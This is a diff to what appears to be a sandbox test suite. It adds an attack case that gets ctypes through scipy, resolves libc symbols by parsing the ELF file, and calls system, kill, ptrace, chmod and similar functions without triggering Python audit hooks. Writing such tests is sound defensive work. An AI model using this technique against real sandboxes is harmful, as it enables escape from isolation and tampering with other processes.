@@ -234,6 +234,41 @@ ATTACKS = [
         system(shell_trace().encode())
     """, "seccomp: no exec, no fork (a call through a ctypes pointer raises no audit event)", None, wrong=True,
         needs=("seccomp",)),
+    Attack("native-calls-through-the-ctypes-scipy-holds", """
+        import scipy.special  # scipy imports ctypes (for LowLevelCallable): the module comes with it
+        import os, signal, struct
+        ctypes = __import__("scipy._lib._ccallback", fromlist=["x"]).ctypes
+        path, base = None, None
+        for line in open("/proc/self/maps"):
+            fields = line.split()
+            if len(fields) >= 6 and "/libc.so" in fields[5] and fields[2] == "00000000":
+                path, base = fields[5], int(fields[0].split("-")[0], 16)
+                break
+        elf = open(path, "rb").read()
+        shoff, = struct.unpack_from("<Q", elf, 0x28)
+        shentsize, shnum = struct.unpack_from("<HH", elf, 0x3A)
+        sections = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize) for i in range(shnum)]
+        dynsym = next(s for s in sections if s[1] == 11)
+        strtab = sections[dynsym[6]]
+        symbols = {}
+        for k in range(dynsym[5] // 24):
+            name, info, other, shndx, value, size = struct.unpack_from("<IBBHQQ", elf, dynsym[4] + 24 * k)
+            end = elf.index(b"\\0", strtab[4] + name)
+            symbols[elf[strtab[4] + name:end]] = base + value
+        def libc(name, *argtypes):
+            return ctypes.CFUNCTYPE(ctypes.c_long, *argtypes)(symbols[name.encode()])
+        text, number = ctypes.c_char_p, ctypes.c_long
+        libc("system", text)(shell_trace().encode())
+        fd = libc("open", text, number, number)((T["canary"] + "/native").encode(), os.O_WRONLY | os.O_CREAT, 0o666)
+        libc("write", number, text, number)(fd, T["token"].encode(), len(T["token"]))
+        libc("chmod", text, number)(T["canary_file"].encode(), 0o777)
+        libc("kill", number, number)(T["victim"], signal.SIGKILL)
+        libc("kill", number, number)(os.getppid(), signal.SIGKILL)
+        libc("ptrace", number, number, number, number)(16, os.getppid(), 0, 0)
+        libc("setpriority", number, number, number)(0, T["victim"], 19)
+        libc("mkfifo", text, number)((T["canary"] + "/native-fifo").encode(), 0o666)
+    """, "seccomp (exec, fork, kill, ptrace, setpriority, mknod); landlock (writes); no root (chmod); "
+         "the hook sees none of these calls", None, wrong=True, needs=("seccomp", "landlock")),
     Attack("private-ctypes-module", """
         import _ctypes
         handle = _ctypes.dlopen("libc.so.6")
